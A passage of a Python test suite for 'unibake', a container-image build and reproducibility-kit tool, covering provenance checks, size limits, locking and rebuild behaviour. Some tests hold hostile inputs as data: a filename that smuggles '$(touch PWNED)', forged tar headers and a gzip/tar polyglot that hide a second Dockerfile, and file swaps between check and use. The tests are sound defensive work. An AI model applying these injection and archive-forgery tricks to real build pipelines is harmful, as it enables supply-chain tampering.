    recorded = {m.name: m.sha256 for m in materials(plan)}
    assert {rel: recorded[rel] for rel in planned} == {rel: hashlib.sha256(d).hexdigest() for rel, d in planned.items()}
    out = tmp_path / "out"
    out.mkdir()
    name = kit_name(plan.product, "0.1.0")
    write_kit(out, name, plan=plan, context=context, release="0.1.0", image_id=IMAGE_ID,
              diff_ids=("sha256:" + "1" * 64,), epoch=1700000000, revision="abc", base=BASE, builder=None)
    folder = unpack(out / name, tmp_path / "unpacked")
    kept = {rel: (folder / (rel if rel != lock else "inputs.lock")).read_bytes() for rel in planned}
    assert kept == planned


def test_a_profile_edited_while_the_plan_hashes_the_inputs_is_recorded_as_it_was_parsed(busybox_product, monkeypatch):
    # the plan parsed the profiles, hashed every input (minutes, for a big engine folder), then read the profiles
    # again for the provenance and the kit: an edit in between was recorded as the files the image was planned
    # from, though it was planned from the files as they were parsed (the lock, read after the hashing, is held
    # as it was read and checked)
    import unibake.plan
    from unibake.supply import materials

    root = busybox_product.parent
    files = ("profiles/product.yaml", "profiles/tp1.yaml", "profiles/tp2.yaml")
    parsed = {rel: (root / rel).read_bytes() for rel in files}
    hash_inputs = unibake.plan.read_source

    def an_editor_meanwhile(*args, **kwargs):  # the real hashing, while someone edits the profiles
        source = hash_inputs(*args, **kwargs)
        for rel in files:
            (root / rel).write_text((root / rel).read_text().replace("gpus: 2", "gpus: 4") + "# the next version\n")
        return source

    monkeypatch.setattr(unibake.plan, "read_source", an_editor_meanwhile)
    plan = make_plan(busybox_product, cwd=root)
    assert [p.gpus for p in plan.profiles] == [1, 2]  # planned from the files as they were parsed
    assert {rel: plan.config_data(rel) for rel in files} == parsed
    recorded = {m.name: m.sha256 for m in materials(plan)}
    assert {rel: recorded[rel] for rel in files} == {rel: hashlib.sha256(d).hexdigest() for rel, d in parsed.items()}


def test_a_context_file_the_kit_cannot_carry_is_refused_before_the_secret_scan_reads_it(busybox_product, tmp_path,
                                                                                         monkeypatch):
    # the scan reads every context file whole (a 10 GB sparse file, which has no newline for grep to bound:
    # about 35 s per GB, in chunks), and only the folder stage after it refused a file of 8 GiB or more; the
    # secret in the file tells which came first (the limit made small here: the rule is 8 GiB)
    from unibake import kit
    from unibake.pipeline import BUILD, Request, run_stages, selection

    from .test_supply_chain import Quiet

    big = busybox_product.parent / "images/engine/weights.bin"
    big.write_bytes(b"\0" * 4096 + b"token = hf_" + b"a" * 34 + b"\n")
    monkeypatch.setattr(kit, "CONTEXT_FILE_LIMIT", 4096)
    (busybox_product / "inputs.lock").unlink()
    request = Request(env={}, cwd=tmp_path, out=tmp_path / "release", config=str(busybox_product), require_lock=False)
    # (refused at the plan now, by its size, before it is hashed, naming the key that bakes it)
    with pytest.raises(InputError, match=r"profiles/product\.yaml:9: 'images/engine/weights\.bin' is 4142 bytes: a file "
                                         r"of 8 GiB or more"):
        run_stages(selection(BUILD), request, Quiet(), connect=lambda address: FakeEngine())
    # a run that makes no release (no kit) scans it as before, and its secret is found
    with pytest.raises(UnibakeError, match=r"weights\.bin"):
        run_stages(selection(BUILD, "render"), request, Quiet(), connect=lambda address: FakeEngine())


def test_rebuild_of_a_release_folder_quotes_the_kit_it_names_in_the_command_to_paste(tmp_path, cli):
    # (before: a downloaded release holding a file '$(touch PWNED)-kit.tar.zst' was named as it is in the
    # suggested `mkdir kit && zstd -dc ... | tar -x -C kit`: pasted, the command ran touch PWNED; a folder
    # given with a space in its name split the command)
    release = tmp_path / "my releases" / "0.1.0"
    release.mkdir(parents=True)
    (release / "manifest.json").write_text("{}")
    (release / "$(touch PWNED)-kit.tar.zst").write_bytes(b"")
    refused = cli("rebuild", str(release))
    assert refused.code == 2 and refused.error_lines == [
        f"error: {release}: a release folder, not a kit: unpack its kit (`mkdir kit && zstd -dc "
        f"'{release}/$(touch PWNED)-kit.tar.zst' | tar -x -C kit`) and rebuild 'kit/$(touch PWNED)-kit'"]
    command = refused.error_lines[0].split("`")[1]
    subprocess.run(["bash", "-c", command.replace("zstd -dc", "cat")], cwd=tmp_path, capture_output=True)
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("shell", SHELLS)
def test_a_second_dockerfile_inside_a_legacy_folder_headers_content_is_refused(busybox_product, tmp_path, shell):
    # a header of type '\0' named "x/" with a size: GNU tar and busybox skip that content (and list one
    # Dockerfile), the engine (Go's archive/tar, as Python's tarfile) reads it as headers and unpacks the
    # second Dockerfile there over the first (tried on Engine 20.10: a layer so made unpacked the member
    # inside). verify.sh walked past it as tar programs do and said ok (before)
    folder, end = context_end(busybox_product, tmp_path)
    info = tarfile.TarInfo("Dockerfile")
    info.size = len(EVIL)
    hidden = info.tobuf(tarfile.USTAR_FORMAT) + EVIL + b"\0" * (-len(EVIL) % 512)
    legacy = tarfile.TarInfo("x/")
    legacy.type, legacy.size = tarfile.AREGTYPE, len(hidden)
    forged = (folder / "context.tar").read_bytes()[:end] + legacy.tobuf(tarfile.USTAR_FORMAT) + hidden + bytes(1024)
    (folder / "context.tar").write_bytes(forged)
    assert subprocess.run(["tar", "-tf", str(folder / "context.tar")], capture_output=True,
                          text=True).stdout.split().count("Dockerfile") == 1  # what GNU tar lists
    agree_with_context(folder)
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and "error: context.tar: a header of a kind unibake never writes" in shown.stderr, \
        (shown.stdout, shown.stderr)
    # (Python reads the old kind named "x/" as a folder: one with a size, refused before its blocks are read)
    with pytest.raises(VerificationError, match="context.tar: the folder 'x' has a size in its header"):
        rebuild(folder, FakeEngine())


def forged_images(folder: Path, change) -> None:
    """The release's provenance with its images' entries changed by ``change(list)``, SHA256SUMS to match,
    and no published kit named (whatever kit is written now is the one the command keeps)."""
    statement = json.loads((folder / "provenance.intoto.json").read_text())
    dependencies = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
    images = [d for d in dependencies if str(d.get("annotations", {}).get("role", "")).endswith(" image")]
    others = [d for d in dependencies if d not in images]
    statement["predicate"]["buildDefinition"]["resolvedDependencies"] = change(images) + others
    (folder / "provenance.intoto.json").write_text(json.dumps(statement, indent=2))
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["supply_chain"]["kit"] = None
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    resum(folder)


def image_entry(role: str, name: str, hexdigest: str) -> dict:
    return {"name": name, "digest": {"sha256": hexdigest}, "annotations": {"role": role}}


IMAGE_CASES = {
    # a builder stage's image recorded as a second base image, first: the kit took it for the base
    "a second base image": (lambda images: [image_entry("base image", "localhost/stage:1", "1" * 64)] + images,
                            "names 2 base images (localhost/stage:1, localhost/unibake-demo-base:bookworm): a release "
                            "is built on one, so which one the kit needs cannot be told"),
    "the base image twice": (lambda images: [image_entry("base image", "localhost/unibake-demo-base:bookworm", "1" * 64)]
                             + images, "names the base image localhost/unibake-demo-base:bookworm 2 times"),
    # the builder left out: the kit named none, and the rebuild checked no builder's ID before building
    "no builder image": (lambda images: [d for d in images if d["annotations"]["role"] != "builder image"],
                         "names no builder image localhost/unibake-demo-builder:bookworm, which the profiles build on"),
    "a toolchain the profiles do not use": (
        lambda images: images + [image_entry("toolchain image", "localhost/cuda:12", "2" * 64)],
        "names the toolchain image localhost/cuda:12, which the profiles do not build on"),
}


@pytest.mark.parametrize("case", IMAGE_CASES)
def test_kit_takes_the_images_the_profiles_build_on_from_the_provenance_or_refuses_naming_them(cli, tmp_path, case):
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    change, message = IMAGE_CASES[case]
    forged_images(folder, change)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 3 and len(refused.error_lines) == 1 and \
        refused.error_lines[0].startswith(f"error: {folder}/provenance.intoto.json: {message}"), refused.err
    assert not (tmp_path / "kit").exists()


def test_kit_of_a_provenance_listing_its_images_in_another_order_names_each_by_its_role(cli, tmp_path):
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    forged_images(folder, lambda images: images[::-1])
    written = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert written.code == 0, written.err
    record = json.loads(unpack(tmp_path / "kit/demo-llm-1.3.1-kit.tar.zst", tmp_path / "unpacked").joinpath(
        "kit.json").read_text())
    assert (record["base"]["ref"], record["builder"]["ref"]) == ("localhost/unibake-demo-base:bookworm",
                                                                 "localhost/unibake-demo-builder:bookworm")


def test_kit_refuses_a_provenance_listing_an_input_twice_naming_it(cli, tmp_path):
    # the first entry another file, the second the checkout's: the check read the last one alone and passed
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    statement = json.loads((folder / "provenance.intoto.json").read_text())
    dependencies = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
    first = next(d for d in dependencies if d.get("annotations", {}).get("role") == "input")
    dependencies.insert(0, {**first, "digest": {"sha256": "3" * 64}})
    (folder / "provenance.intoto.json").write_text(json.dumps(statement, indent=2))
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["supply_chain"]["kit"] = None
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    resum(folder)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 3 and refused.error_lines == [
        f"error: {folder}/provenance.intoto.json: lists the input {first['name']} more than once; a release made by "
        "unibake lists each once"], refused.err
    assert not (tmp_path / "kit").exists()


def test_a_context_file_of_8_gib_or_more_is_refused_naming_it_before_the_kit_reads_it(busybox_product, tmp_path):
    # ustar's size field holds 11 octal digits: a file of 8 GiB gets a pax "size" record, which the kit's
    # verify.sh and rebuild refuse (busybox tar ignores one): the kit was written, then refused by its own
    # checks. A sparse file: nothing of it is read before the refusal
    import dataclasses

    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    context = render(plan)
    huge = tmp_path / "weights.bin"
    with open(huge, "wb") as fh:
        fh.truncate(8 << 30)
    big = dataclasses.replace(next(f for f in context.files if f.source is not None), source=huge)
    context = dataclasses.replace(context, files=tuple(big if f.name == big.name else f for f in context.files))
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(InputError) as refused:
        write_kit(out, "k.tar.zst", plan=plan, context=context, release="0.1.0", image_id=IMAGE_ID, diff_ids=(),
                  epoch=0, revision="abc", base=BASE, builder=None)
    assert str(refused.value).startswith(f"{huge}: {8 << 30} bytes ({big.name} in the build context): a file of "
                                         "8 GiB or more"), refused.value
    assert list(out.iterdir()) == []
    under = tmp_path / "under.bin"
    with open(under, "wb") as fh:
        fh.truncate((8 << 30) - 1)
    from unibake.kit import check_context_sizes

    check_context_sizes(dataclasses.replace(context, files=(dataclasses.replace(big, source=under),)))  # fits


def test_a_build_whose_context_holds_a_file_the_kit_cannot_carry_is_refused_before_it_builds(busybox_product, tmp_path,
                                                                                            monkeypatch):
    # every release built from profiles writes a kit: refused at the release folder, not after the build
    # and the export (the limit made small here: the rule is 8 GiB, tested above without one)
    from unibake import kit
    from unibake.pipeline import BUILD, Request, run_stages, selection

    from .test_supply_chain import Quiet

    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    biggest = max(render(plan).files, key=lambda f: f.size)  # the Dockerfile, generated: named by its name
    monkeypatch.setattr(kit, "CONTEXT_FILE_LIMIT", biggest.size)
    engine = FakeEngine()
    engine.add({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/bin"]}, "history": []}, [],
               tag=plan.base_image)
    request = Request(env={}, cwd=tmp_path, out=tmp_path / "release", config=str(busybox_product), require_lock=False)
    with pytest.raises(InputError, match=rf"^the generated {biggest.name}: {biggest.size} bytes \({biggest.name} in the build "
                                         r"context\): a file of 8 GiB or more"):
        run_stages(selection(BUILD), request, Quiet(), connect=lambda address: engine)
    assert not (tmp_path / "release").exists() or list((tmp_path / "release").iterdir()) == []


def sent_whole(context) -> bytes:
    """What an engine reads of a build context before it builds: all of it, as the request sends it."""
    data = b""
    while block := context.read(1 << 16):
        data += block
    return data


def kit_on_a_building_engine(busybox_product, tmp_path):
    """An unpacked kit of the busybox product, and a fake engine whose build gives the base image's
    layers and two of ours (the kit's base is that engine's)."""
    from unibake.engine import BuildOutcome

    from .test_normalise import BASE_LAYER_ENTRIES, config, layer, ours

    class Builder(FakeEngine):
        def build(self, context, *, tag, buildargs, nocache, on_line, platform=None):
            sent_whole(context)  # as the engine does, before it builds
            on_line("Step 1/1 : COPY . /opt/unibake")
            base = self.images[self.tags[BASE.ref]].layers
            return BuildOutcome(image_id=self.add(config("2026-01-01T00:00:00Z", "c1"), base + ours(1), tag=tag),
                                steps=())

    engine = Builder()
    base_id = engine.add({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/bin"]}},
                         [layer(BASE_LAYER_ENTRIES, uname="root")], tag=BASE.ref)
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    (tmp_path / "out").mkdir()
    name = kit_name(plan.product, "0.1.0")
    write_kit(tmp_path / "out", name, plan=plan, context=render(plan), release="0.1.0", image_id=IMAGE_ID,
              diff_ids=("sha256:" + "1" * 64,), epoch=1700000000, revision="abc",
              base=BaseImage(ref=BASE.ref, image_id=base_id), builder=None)
    return unpack(tmp_path / "out" / name, tmp_path / "unpacked"), engine


def test_the_rebuilds_normalise_shows_its_progress(busybox_product, tmp_path):
    # rebuild said "==> rebuild", the build's steps, then nothing while it normalised the image it built (a save
    # and a load of the whole image: minutes for many gigabytes); its normalise now has the reporter's progress
    from contextlib import contextmanager

    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path)
    events = []

    @contextmanager
    def progress(what, total):
        events.append(("begin", what))
        yield lambda n: events.append(("read", n))
        events.append(("end", what))

    result = rebuild(folder, engine, progress=progress)
    assert result.image.image_id != IMAGE_ID  # (the fake's image, not the release's: only the progress is asked)
    assert events[0] == ("begin", "normalise") and events[-1] == ("end", "normalise")
    assert sum(n for kind, n in events[1:-1]) > 0 and all(kind == "read" for kind, _ in events[1:-1])


def test_the_kits_readme_names_every_tag_its_rebuild_leaves_and_how_to_remove_them(busybox_product, tmp_path):
    # the README named only unibake-kit/PRODUCT:RELEASE; --rebuild also keeps the image before normalising as
    # build cache (unibake-cache/PRODUCT:kit-RELEASE-build), which nothing in the kit told its user of
    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path)
    readme = (folder / "README.md").read_text()
    result = rebuild(folder, engine)
    assert result.cached == ("unibake-cache/unibake-test:kit-0.1.0-build",)
    assert result.ref == "unibake-kit/unibake-test:0.1.0"
    assert engine.inspect_image(result.cached[0]) is not None  # (what the README names is what the engine holds)
    assert f"docker image rm {result.ref} {result.cached[0]}\n" in readme
    assert "kept as build cache under `unibake-cache/unibake-test:kit-0.1.0-build`" in readme
    assert "stage1" not in readme  # (no builder stage in this product)
    # and the virtual environment verify.sh makes for tool/, where verify.sh makes it
    script = (folder / "verify.sh").read_text()
    assert 'venv="$cache/unibake/kit-venv-$(sha256sum tool/requirements.txt | cut -c 1-16)"' in script
    assert "cache=$XDG_CACHE_HOME" in script and "cache=$HOME/.cache" in script
    assert 'rm -rf "${XDG_CACHE_HOME:-$HOME/.cache}/unibake"/kit-venv-*' in readme


def test_an_interrupted_rebuild_keeps_its_finished_steps_as_named_build_cache(busybox_product, tmp_path):
    # (before: a Ctrl-C during the rebuild's build left the steps that finished as dangling images, which
    # the classic builder does not remove; a release's build keeps them as unibake-cache/...-failed)
    from unibake.builder import cache_ref
    from unibake.errors import BuildInterrupted

    from .test_normalise import config, ours

    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path)
    base = engine.images[engine.tags[BASE.ref]].layers
    stage = engine.add(config("2026-01-01T00:00:00Z", "s1"), base + ours(1))
    step = engine.add(config("2026-01-01T00:00:00Z", "c1"), base + ours(1))

    def interrupted(context, *, tag, buildargs, nocache, on_line, platform=None):
        raise BuildInterrupted(last_image=step, stage_images=(stage,))

    engine.build = interrupted
    with pytest.raises(KeyboardInterrupt):
        rebuild(folder, engine)
    product = read_kit(folder).product
    assert engine.tags[cache_ref(product, "kit-0.1.0", "failed")] == step
    assert engine.tags[cache_ref(product, "kit-0.1.0", "stage1")] == stage


def test_two_kits_written_into_one_folder_at_once_never_put_a_partial_kit_in_place(busybox_product, tmp_path, cli):
    # (before: both wrote .NAME.tmp; the second removed the first's and began its own, and the first then
    # renamed the second's half-written file into place as the kit: a truncated zstd under the final name)
    whole, _ = make_kit(busybox_product, tmp_path / "whole")
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    out = tmp_path / "kits"
    out.mkdir()
    first = KitDraft(out, whole.name, plan=plan, context=render(plan), release="0.1.0", epoch=1700000000)
    second = KitDraft(out, whole.name, plan=plan, context=render(plan), release="0.1.0", epoch=1700000000)
    first.begin()
    try:
        with pytest.raises(UnibakeError, match=rf"^another run is writing a kit in {out}: wait for it, then run "
                                               "again$"):
            second.begin()
    finally:
        second.abandon()
    first.finish(image_id=IMAGE_ID, diff_ids=("sha256:" + "1" * 64,), revision="abc", base=BASE, builder=None)
    first.abandon()
    assert os.listdir(out) == [whole.name] and (out / whole.name).read_bytes() == whole.read_bytes()
    again = KitDraft(out, whole.name, plan=plan, context=render(plan), release="0.1.0", epoch=1700000000)
    again.finish(image_id=IMAGE_ID, diff_ids=("sha256:" + "1" * 64,), revision="abc", base=BASE, builder=None)
    again.abandon()  # the first let go of the folder
    assert os.listdir(out) == [whole.name] and (out / whole.name).read_bytes() == whole.read_bytes()


def test_a_kit_is_written_where_the_file_system_cannot_lock_a_folder(busybox_product, tmp_path, monkeypatch):
    # NFS emulates flock with byte-range locks, which a folder opened to read cannot take (EBADF): the kit is
    # written unheld there, not refused as "cannot write the kit"
    import errno

    from unibake import kit

    def no_folder_locks(fd, operation):
        raise OSError(errno.EBADF, os.strerror(errno.EBADF))

    whole, _ = make_kit(busybox_product, tmp_path / "whole")
    monkeypatch.setattr(kit.fcntl, "flock", no_folder_locks)
    made, _ = make_kit(busybox_product, tmp_path / "nfs")
    monkeypatch.undo()
    assert made.read_bytes() == whole.read_bytes() and os.listdir(tmp_path / "nfs") == [whole.name]


def test_an_interrupt_as_the_kit_s_temporary_file_is_made_leaves_nothing_in_out(busybox_product, tmp_path, monkeypatch):
    # (before: the file was made before the draft recorded it: its abandon, which removes only a file of its own,
    # left .NAME.tmp in --out)
    import signal

    from unibake import kit

    real = kit.open_new

    def made_then_interrupted(path, *args):
        made = real(path, *args)
        os.kill(os.getpid(), signal.SIGTERM)  # the file is there; the signal lands as it is returned
        return made

    monkeypatch.setattr(kit, "open_new", made_then_interrupted)
    with terminated_as_the_cli():
        with pytest.raises(KeyboardInterrupt):
            make_kit(busybox_product, tmp_path / "out")
    assert os.listdir(tmp_path / "out") == []


def test_the_kit_s_thread_waits_for_a_cold_build_and_starts_at_once_on_a_base_release(busybox_product, tmp_path):
    # A cold build keeps both cores busy: the kit's thread (the context hashed and compressed) starts when it has
    # ended. On a base release (a hotfix, a release made --from one) the build is mostly steps from the build
    # memo, waiting on the engine: the kit's thread starts before it (it ran beside the frames' copy and the read
    # back, which it slowed: 6.3-7.7 s against 6.0-6.2 s for a --from release of the realistic product).
    import threading
    from contextlib import ExitStack
    from types import SimpleNamespace

    from unibake.errors import BuildFailed
    from unibake.pipeline import BUILD, BY_NAME, Request, Results, run_stages, selection

    from .test_supply_chain import Quiet

    threads_at_build = []

    class Builder(FakeEngine):
        def build(self, context, *, tag, buildargs, nocache, on_line, platform=None):
            threads_at_build.append(sorted(t.name for t in threading.enumerate()))
            raise BuildFailed("the build stops here")

    engine = Builder()
    engine.add({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/bin"]}, "history": []}, [],
               tag=BASE.ref)
    request = Request(env={}, cwd=tmp_path, out=tmp_path / "release", config=str(busybox_product))
    with pytest.raises(BuildFailed):
        run_stages(selection(BUILD), request, Quiet(), connect=lambda address: engine)
    assert threads_at_build and "kit" not in threads_at_build[0]
    left = lambda: sorted(p.name for p in (tmp_path / "release").iterdir() if not p.name.endswith(".lock"))  # noqa: E731
    assert left() == []  # the kit never begun, the staging folder removed

    base = SimpleNamespace(epoch=1700000000, manifest=SimpleNamespace(supply_chain=None))  # (one without a kit)
    names = [s.name for s in selection(BUILD)]
    with ExitStack() as stack:
        given = run_stages(selection(BUILD)[:names.index("kit begin")], request, Quiet(),
                           connect=lambda address: engine, stack=stack)
        given = run_stages([BY_NAME["kit begin"]], request, Quiet(), connect=lambda address: engine, stack=stack,
                           given=Results(values={**given.values, "base": base}))
        draft = given["kit_draft"]
        assert draft._thread is not None  # begun before the build stage runs
        draft.wait()
        assert [p.name for p in draft.out.iterdir()] == [draft.temp.name]
    assert left() == []  # abandoned with the run: nothing left


def test_a_rebuild_judges_the_image_it_built_though_another_run_moves_the_kit_tag_meanwhile(busybox_product,
                                                                                            tmp_path):
    # found by probing: the rebuild read its result back by the tag unibake-kit/PRODUCT:RELEASE, which a second
    # rebuild of the release on the same engine moved meanwhile: the other run's image was normalised and judged
    # ("identical"), this run's left dangling. It builds under a tag of its own now, and names the result at the end
    from .test_normalise import config, ours

    (tmp_path / "clean").mkdir()
    (tmp_path / "raced").mkdir()
    clean_folder, clean_engine = kit_on_a_building_engine(busybox_product, tmp_path / "clean")
    clean = rebuild(clean_folder, clean_engine)
    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path / "raced")
    base = engine.images[engine.tags[BASE.ref]].layers
    other = engine.add(config("2026-01-01T00:00:00Z", "other"), base + ours(1, tune=b'{"t": 2}\n'))
    building = engine.build

    def build_while_another_run_tags(context, **kw):
        outcome = building(context, **kw)
        engine.tags["unibake-kit/unibake-test:0.1.0"] = other  # the other rebuild's result, meanwhile
        return outcome

    engine.build = build_while_another_run_tags
    result = rebuild(folder, engine)
    assert result.image.image_id == clean.image.image_id != other
    assert engine.tags[result.ref] == result.image.image_id
    assert not [t for t in engine.tags if "rebuild" in t]  # its own tag gone
    assert not [i for i in engine.list_images(dangling=True) if i.id != other]  # nothing of its own left untagged


def test_a_rebuild_to_another_image_leaves_no_earlier_rebuild_dangling_and_a_failed_normalise_keeps_its_build(
        busybox_product, tmp_path):
    # found by probing: a rebuild moved unibake-kit/PRODUCT:RELEASE and left the image it named before dangling;
    # an interrupted or failed normalise left the tag on the image before normalising, and no build cache named it
    from unibake.builder import cache_ref

    from .test_normalise import config, ours

    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path)
    first = rebuild(folder, engine)
    base = engine.images[engine.tags[BASE.ref]].layers

    def build_another(context, *, tag, buildargs, nocache, on_line, platform=None):
        from unibake.engine import BuildOutcome
        sent_whole(context)
        return BuildOutcome(image_id=engine.add(config("2026-01-01T00:00:00Z", "c2"),
                                                base + ours(1, tune=b'{"t": 2}\n'), tag=tag), steps=())

    engine.build = build_another
    second = rebuild(folder, engine)
    assert second.image.image_id != first.image.image_id
    assert first.image.image_id not in engine.images  # (removed, not dangling)
    assert engine.list_images(dangling=True) == []
    # a normalise that fails: the kit tag stays where it was, the build is kept as named cache
    import unibake.normalise

    def failing(*args, **kwargs):
        raise KeyboardInterrupt

    original, unibake.normalise.normalise_image = unibake.normalise.normalise_image, failing
    try:
        with pytest.raises(KeyboardInterrupt):
            rebuild(folder, engine)
    finally:
        unibake.normalise.normalise_image = original
    assert engine.tags["unibake-kit/unibake-test:0.1.0"] == second.image.image_id
    assert cache_ref("unibake-test", "kit-0.1.0", "failed") in engine.tags
    assert engine.list_images(dangling=True) == [] and not [t for t in engine.tags if "rebuild" in t]


@pytest.mark.parametrize("field, value, says", [
    ("source_date_epoch", 253402300800, "source_date_epoch"), ("source_date_epoch", 10 ** 20, "source_date_epoch"),
    ("install_root", "/.", "install_root")])
def test_a_kit_json_epoch_past_a_tar_header_or_another_install_root_is_refused_before_the_engine_is_asked(
        busybox_product, tmp_path, field, value, says):
    # found by probing: an epoch past the year 9999 was a traceback (ValueError), one past 8**11 a whole build then
    # "rewritten to 24584 bytes"; install_root "/." was refused only after the build
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    forge_kit_json(folder, lambda record: record.update({field: value}))
    with pytest.raises(VerificationError, match=f"kit.json: not a valid kit record: .*{says}"):
        rebuild(folder, FakeEngine())


def test_a_gzip_compressed_context_is_refused_by_the_rebuild_as_by_verify_sh(busybox_product, tmp_path):
    # found by probing: verify.sh refused it ("a header at block 0 without an octal size"), build.py rebuild built
    # it (tarfile's "r:*" read it) and said "identical"
    import gzip

    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    (folder / "context.tar").write_bytes(gzip.compress((folder / "context.tar").read_bytes(), mtime=0))
    sha = hashlib.sha256((folder / "context.tar").read_bytes()).hexdigest()
    forge_kit_json(folder, lambda record: record.update(context_sha256=sha))
    relist_file(folder, "context.tar")
    with pytest.raises(VerificationError, match="context.tar: it begins as a compressed stream"):
        rebuild(folder, FakeEngine())
    assert verify_sh(folder, "sh").returncode == 3


def test_the_context_a_rebuild_builds_is_the_one_it_checked_though_the_file_is_replaced_or_rewritten(
        busybox_product, tmp_path):
    # found by probing: the rebuild checked context.tar by name (twice), then opened it again by name to send it:
    # a file put in its place in between (here while the engine is asked for the base image) was built unchecked.
    # It is now checked and sent through one descriptor, hashed on its way to the engine (refused before its end is sent)
    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path)
    checked = (folder / "context.tar").read_bytes()
    with tarfile.open(folder / "context.tar") as tar:  # a file of the context changed, its Dockerfile left as it is
        member = next(m for m in tar.getmembers() if m.isfile() and m.size and m.name != "Dockerfile")
    other = tmp_path / "other.tar"
    other.write_bytes(checked[:member.offset_data] + bytes([checked[member.offset_data] ^ 1])
                      + checked[member.offset_data + 1:])
    received = []
    building, inspect = engine.build, engine.inspect_image

    def swap_then_inspect(ref):  # after the kit's checks, before the context is opened to be built
        if other.exists():
            os.replace(other, folder / "context.tar")
        return inspect(ref)

    engine.inspect_image = swap_then_inspect
    with pytest.raises(VerificationError, match="context.tar: changed since its check"):
        rebuild(folder, engine)
    assert not [t for t in engine.tags if t.startswith("unibake-kit/")]

    # replaced once opened: the engine gets the bytes checked, from the file opened
    (folder / "context.tar").write_bytes(checked)
    engine.inspect_image = inspect

    def swap_then_build(context, **kw):
        replaced = tmp_path / "replaced.tar"
        replaced.write_bytes(checked.replace(b"unibake-test", b"unibake-TEST"))
        os.replace(replaced, folder / "context.tar")
        received.append(sent_whole(context))
        context.read = lambda n=-1: b""  # (read: Builder's build reads nothing more)
        return building(context, **kw)

    engine.build = swap_then_build
    result = rebuild(folder, engine)
    assert received == [checked] and result.image.image_id

    # rewritten in place while it is sent (its owner, the same inode): refused before its last bytes reach the engine
    (tmp_path / "again").mkdir()
    folder, engine = kit_on_a_building_engine(busybox_product, tmp_path / "again")
    sent = []

    def rewrite_while_sending(context, **kw):
        sent.append(context.read(1024))
        with open(folder / "context.tar", "r+b") as fh:
            fh.seek(len(checked) - 2048)
            fh.write(b"x" * 512)
        while block := context.read(1024):
            sent.append(block)
        raise AssertionError("the whole context was sent")

    engine.build = rewrite_while_sending
    with pytest.raises(VerificationError, match="context.tar: changed since its check"):
        rebuild(folder, engine)
    assert sum(map(len, sent)) < len(checked)  # its end never sent: the engine never builds it


@pytest.mark.parametrize("change", ["a lock entry", "a profile", "a profile added"])
def test_rebuild_release_refuses_a_kit_whose_lock_or_profiles_are_not_the_releases(cli, tmp_path, change):
    # found by probing: `rebuild KIT --release DIR` compared only the context and the Dockerfile with the
    # provenance: a kit whose inputs.lock or profiles were rewritten (ledger redone) rebuilt "identical"
    release = tmp_path / "release" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", release, ignore=shutil.ignore_patterns("*.tar.zst*"))
    assert cli("kit", str(release), "--out", str(tmp_path / "written")).code == 0  # (the published one, again)
    folder = unpack(tmp_path / "written" / "demo-llm-1.3.1-kit.tar.zst", tmp_path / "kit")
    name = {"a lock entry": "inputs.lock", "a profile": "profiles/tp1.yaml", "a profile added": "profiles/tp8.yaml"}[
        change]
    path = folder / name
    if change == "a lock entry":
        path.write_text(re.sub(r"^[0-9a-f]{64}", "0" * 64, path.read_text(), count=1, flags=re.M))
    else:
        with open(path, "a") as f:
            f.write("# reviewed\n")
    lines = (folder / "kit.sha256").read_text().splitlines()
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    relist(folder, [line for line in lines if not line.endswith(f"  {name}")] + [f"{digest}  {name}"])
    assert check_ledger(folder) == []
    result = cli("rebuild", str(folder), "--release", str(release), "--engine", "unix:///nowhere.sock")
    recorded = "none recorded" if change == "a profile added" else "sha256 "
    assert result.code == 3 and len(result.error_lines) == 1, result.err
    assert result.error_lines[0].startswith(
        f"error: {folder}: its {name} (sha256 {digest[:16]}...) is not the one release 1.3.1 was made from "
        f"({recorded}"), result.err
    assert result.error_lines[0].endswith("in its provenance.intoto.json): not its kit"), result.err


def gzip_polyglot(folder: Path) -> bytes:
    """The kit's context.tar rewritten as a tar that is also a gzip stream: its first header a folder whose name
    is a gzip header with an extra field that covers the whole tar (the kit's Dockerfile, the end blocks), then a
    deflate stream of another context whose Dockerfile is EVIL. Read as a tar it is the kit's; the engine goes by
    its first bytes and would decompress it."""
    import struct
    import zlib

    with tarfile.open(folder / "context.tar") as tar:
        entries = [(m, tar.extractfile(m).read() if m.isfile() else b"") for m in tar.getmembers()]
    other = tarfile.TarInfo("Dockerfile")
    other.size = len(EVIL)
    inner = header(other) + padded(EVIL) + bytes(8192)

    def outer(extra: int) -> bytes:
        folder_header = tarfile.TarInfo("\x1f\x8b\x08\x04\x01\x01\x01\x01\x00\x03" + struct.pack("<H", extra).decode(
            "latin-1"))
